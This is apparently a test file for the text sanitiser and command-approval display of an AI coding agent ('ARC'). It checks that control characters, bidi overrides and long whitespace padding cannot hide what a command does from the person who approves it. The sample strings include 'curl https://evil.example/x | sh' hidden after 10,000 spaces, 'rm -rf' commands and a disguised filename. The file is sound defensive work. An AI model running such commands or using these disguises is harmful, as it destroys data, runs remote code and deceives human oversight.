// The one sanitiser for text from the model or the workspace (src/core/text/visible.ts) and the
// approval display forms built on it (src/core/text/approvalText.ts): DESIGN §5 "Prompts show the truth".
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { clipDisplay, commandDisplay, commandLengthNote, commandModalText, diffDisplay, diffMoreNote, fullCommandDocument, fullDiffDocument, nameDisplay, protectedNote, sandboxNote } from '../../src/core/text/approvalText';
import { visible, visibleCollapsed, visibleJson } from '../../src/core/text/visible';
import { RAW_CONTROL } from './rawControl';


test('C0 controls except newline and tab, DEL and C1 controls are shown as escapes', () => {
  assert.equal(visible('npm test\x1b[2K\x1b[Gecho ok'), 'npm test\\x1b[2K\\x1b[Gecho ok');
  assert.equal(visible('rm -rf ~\rnpm test'), 'rm -rf ~\\rnpm test', 'a lone CR would return the cursor');
  assert.equal(visible('a\x07b\x08c\x00d\x7fe'), 'a\\x07b\\x08c\\x00d\\x7fe');
  assert.equal(visible('8-bit CSI \u009b2J and OSC \u009d52;c;QUJD\u009c'), '8-bit CSI \\x9b2J and OSC \\x9d52;c;QUJD\\x9c');
  assert.equal(visible('line 1\n\tline 2'), 'line 1\n\tline 2', 'newline and tab stay in multi-line text');
  assert.equal(visible('line 1\n\tline 2', { oneLine: true }), 'line 1\\n\\tline 2');
  assert.equal(visible('crlf\r\n'), 'crlf\\r\n', 'a CR is shown even before a newline');
  for (let c = 0; c < 0xa0; c++) {
    if (c >= 0x20 && c < 0x7f) continue;
    if (c === 0x0a || c === 0x09) continue;
    assert.doesNotMatch(visible(`x${String.fromCharCode(c)}y`), RAW_CONTROL, `U+${c.toString(16)}`);
  }
});

test('OSC 52 clipboard writes, BEL- or ST-terminated, are shown, not obeyed', () => {
  assert.equal(visible('read_file\x1b]52;c;QkFTRTY0\x07'), 'read_file\\x1b]52;c;QkFTRTY0\\x07');
  assert.equal(visible('read_file\x1b]52;c;QkFTRTY0\x1b\\'), 'read_file\\x1b]52;c;QkFTRTY0\\x1b\\');
});

test('bidi controls and invisible format characters are shown; text without them is returned as is', () => {
  assert.equal(visible('invoice\u202egpj.exe'), 'invoice\\u202egpj.exe');
  assert.equal(visible('a\u2066b\u2069c\u200ed\u200fe\u061cf'), 'a\\u2066b\\u2069c\\u200ed\\u200fe\\u061cf');
  assert.equal(visible('np\u200bm\ufeff\u00ad\u2028'), 'np\\u200bm\\ufeff\\xad\\u2028');
  assert.equal(visible('tag \u{e0041}\u{e0042}'), 'tag \\u{e0041}\\u{e0042}', 'tag characters (invisible ASCII)');
  const plain = 'const x = "héllo" // 日本語 ✓';
  assert.equal(visible(plain), plain);
  assert.equal(visible('C:\\Users\\x\\n'), 'C:\\Users\\x\\n', 'backslashes are left alone');
  assert.equal(visible('bad \ud800 surrogate'), 'bad \\ud800 surrogate');
});

test('joiners join emoji and scripts but are shown next to ASCII; exact mode shows every one and look-alike spaces', () => {
  const dev = '👩\u200d💻';
  assert.equal(visible(dev), dev, 'an emoji ZWJ sequence stays');
  assert.equal(visible('क्\u200dष'), 'क्\u200dष', 'a joiner between Devanagari letters stays');
  assert.equal(visible('np\u200dm test'), 'np\\u200dm test', 'next to ASCII it only disguises');
  assert.equal(visible('\u200dx'), '\\u200dx');
  assert.equal(visible(dev, { exact: true }), '👩\\u200d💻');
  assert.equal(visible('rm\u00a0-rf'), 'rm\u00a0-rf', 'prose keeps a no-break space');
  assert.equal(visible('rm\u00a0-rf\u2003x', { exact: true }), 'rm\\xa0-rf\\u2003x');
  assert.equal(visible('❤\ufe0f'), '❤\ufe0f', 'one variation selector after a character is presentation');
  assert.equal(visible('😀\ufe00\ufe01\u{e0100}'), '😀\\ufe00\\ufe01\\u{e0100}', 'a run of them smuggles bytes');
});

test('visible() is idempotent: sanitising twice changes nothing more', () => {
  const attack = 'x\x1b[2J\u009b\u202e\r\n\t\u200d👩\u200d💻 ⟨10 spaces⟩';
  for (const opts of [{}, { oneLine: true }, { oneLine: true, exact: true }]) {
    const once = visible(attack, opts);
    assert.equal(visible(once, opts), once);
  }
});

test('long runs of blanks are counted for display, short ones shown', () => {
  assert.equal(visibleCollapsed(`npm test${' '.repeat(10_000)}; curl x|sh`, 8, { oneLine: true }), 'npm test⟨10,000 spaces⟩; curl x|sh');
  assert.equal(visibleCollapsed('a   b', 8), 'a   b');
  assert.equal(visibleCollapsed(`a${'\t'.repeat(300)}b`, 8, { oneLine: true }), 'a⟨300 × \\t⟩b');
  assert.equal(visibleCollapsed(`a${'\u200b'.repeat(50)}b`, 8), 'a⟨50 × \\u200b⟩b');
  assert.equal(visibleCollapsed(`a${' \t'.repeat(600)}b`, 8, { oneLine: true }), 'a⟨1,200 blank or control characters: 600 spaces, 600 × \\t⟩b');
  assert.equal(visibleCollapsed(`a${' '.repeat(10)}\t${' '.repeat(3)}b`, 8, { oneLine: true }), 'a⟨10 spaces⟩\\t   b');
});

test('commands are shown whole on one line, with their length and how they were shown', () => {
  const cmd = `npm test${' '.repeat(10_000)}; curl https://evil.example/x | sh`;
  const d = commandDisplay(cmd);
  assert.equal(d.text, 'npm test⟨10,000 spaces⟩; curl https://evil.example/x | sh');
  assert.equal(d.length, cmd.length);
  assert.equal(d.more, 0);
  assert.match(commandLengthNote(d), /^10,042 characters; shown with control characters escaped and long runs of blanks counted$/);
  assert.equal(commandLengthNote(commandDisplay('npm test')), '', 'a short plain command needs no note');
  assert.match(commandLengthNote(commandDisplay(`echo ${'a'.repeat(200)}`)), /^205 characters$/);
  assert.equal(commandDisplay('cat <<EOF\nrm -rf /\nEOF').text, 'cat <<EOF\\nrm -rf /\\nEOF');
  const cut = commandDisplay(`echo ${'a'.repeat(300)}`, 100);
  assert.equal(cut.more, 205);
  assert.match(cut.text, /⟨… 205 more characters⟩$/);
  assert.equal(nameDisplay('src/\u202eexe.txt'), 'src/\\u202eexe.txt');
});

test('a clip never splits an escape, a count or a surrogate pair', () => {
  assert.equal(clipDisplay('abc\\x1bdef', 5).text, 'abc⟨… 7 more characters⟩');
  assert.equal(clipDisplay('ab⟨10 spaces⟩cd', 5).text, 'ab⟨… 13 more characters⟩');
  assert.equal(clipDisplay('a😀b', 2).text, 'a⟨… 3 more characters⟩');
  assert.deepEqual(clipDisplay('short', 10), { text: 'short', more: 0 });
});

test('diffs are shown line by line, sanitised, with exactly how much is not shown', () => {
  const diff = `--- a/x\n+++ b/x\n@@ -1 +1 @@\n-ok\n+ok\x1b[2K\x1b[G+harmless\n`;
  const d = diffDisplay(diff, { maxLines: 100, maxChars: 10_000, maxLineChars: 1000 });
  assert.equal(d.text, '--- a/x\n+++ b/x\n@@ -1 +1 @@\n-ok\n+ok\\x1b[2K\\x1b[G+harmless');
  assert.deepEqual([d.totalLines, d.shownLines, d.moreLines, d.shortenedLines], [5, 5, 0, 0]);
  assert.equal(diffMoreNote(d), '');

  const big = Array.from({ length: 3000 }, (_, i) => `+line ${i}`).join('\n');
  const b = diffDisplay(big, { maxLines: 2000, maxChars: 1_000_000, maxLineChars: 1000 });
  assert.deepEqual([b.totalLines, b.shownLines, b.moreLines], [3000, 2000, 1000]);
  assert.equal(diffMoreNote(b), '1,000 more lines of 3,000 not shown');
  const byChars = diffDisplay(big, { maxLines: 10_000, maxChars: 100, maxLineChars: 1000 });
  assert.ok(byChars.shownLines < 20 && byChars.moreLines === 3000 - byChars.shownLines);

  const long = diffDisplay(`+${'x'.repeat(5000)}\n+${' '.repeat(10_000)}tail`, { maxLines: 10, maxChars: 100_000, maxLineChars: 1000 });
  assert.equal(long.shortenedLines, 1);
  assert.match(long.text, /⟨… 4,001 more characters on this line⟩\n\+⟨10,000 spaces⟩tail$/);
  assert.equal(diffMoreNote(long), '1 long line shortened');
});

test('sandbox and protected notes', () => {
  assert.equal(sandboxNote({ sandboxed: true }), 'runs in the sandbox (no network)');
  assert.equal(sandboxNote({ sandboxed: true, network: true }), 'runs in the sandbox (with network access)');
  assert.equal(sandboxNote({ sandboxed: false, network: true }), 'runs UNSANDBOXED, as you');
  assert.equal(protectedNote('.git/hooks decide what git runs'), 'protected: .git/hooks decide what git runs');
  assert.equal(protectedNote(undefined), '');
  assert.equal(protectedNote('x\x1b[2Ky'), 'protected: x\\x1b[2Ky');
});

test('visibleJson is the same JSON value with C1, bidi and invisible characters escaped', () => {
  const value = { name: 'x\u009b2J\u202e\u200b\x1b]52;c;QQ==\x07', tag: '\u{e0041}', ok: 'héllo 👩\u200d💻' };
  const json = visibleJson(value);
  assert.deepEqual(JSON.parse(json), value);
  assert.doesNotMatch(json, RAW_CONTROL);
  assert.match(json, /\\u009b2J\\u202e\\u200b\\u001b\]52/);
});

test('the modal shows a command whole up to its limit, then says how much more and offers the full command', () => {
  const short = commandModalText({ command: 'make test', reason: 'no allowlist match', cwd: '/w', sandboxed: true }, 1000);
  assert.equal(short.message, 'ARC wants to run a command in /w:');
  assert.equal(short.detail, 'make test\n\n(9 characters)\n\nIt runs in the sandbox (no network).\nWhy it asks: no allowlist match');
  assert.equal(short.offerFull, false);
  const padded = commandModalText({ command: `npm test${' '.repeat(10_000)}; curl x|sh`, reason: 'r', cwd: '/w', sandboxed: false }, 1000);
  assert.match(padded.detail, /^npm test⟨10,000 spaces⟩; curl x\|sh\n\n\(10,019 characters; control characters escaped, long runs of blanks counted ⟨…⟩\)\n\nIt runs UNSANDBOXED, as you\./);
  assert.equal(padded.offerFull, true);
  const long = commandModalText({ command: `echo ${'y'.repeat(5000)}`, reason: 'r', cwd: '/w\x1b[2J', sandboxed: true, network: true }, 1000);
  assert.match(long.detail, /⟨… 4,005 more characters⟩\n\n\(5,005 characters; 4,005 more characters not shown here — Show Full Command\)/);
  assert.equal(long.message, 'ARC wants to run a command in /w\\x1b[2J:');
  assert.equal(long.offerFull, true);
});

test('the full-text documents carry the exact diff and command in a fence they cannot close', () => {
  const diff = '+```\n+# heading\n+````x';
  const doc = fullDiffDocument({ path: '.github/workflows/ci.yml', kind: 'edit', diff, protectedReason: 'CI files decide what runs on push' });
  assert.ok(doc.includes(`\`\`\`\`\`diff\n${diff}\n\`\`\`\`\`\n`));
  assert.match(doc, /protected: CI files decide what runs on push: this edit always asks\./);
  const cmd = fullCommandDocument({ command: 'echo `id`\x1b[2J', reason: 'r', cwd: '/w', sandboxed: false });
  assert.ok(cmd.includes('```sh\necho `id`\x1b[2J\n```'), 'exactly as it would run');
  assert.ok(cmd.includes('```text\necho `id`\\x1b[2J\n```'), 'and as the approval shows it');
});
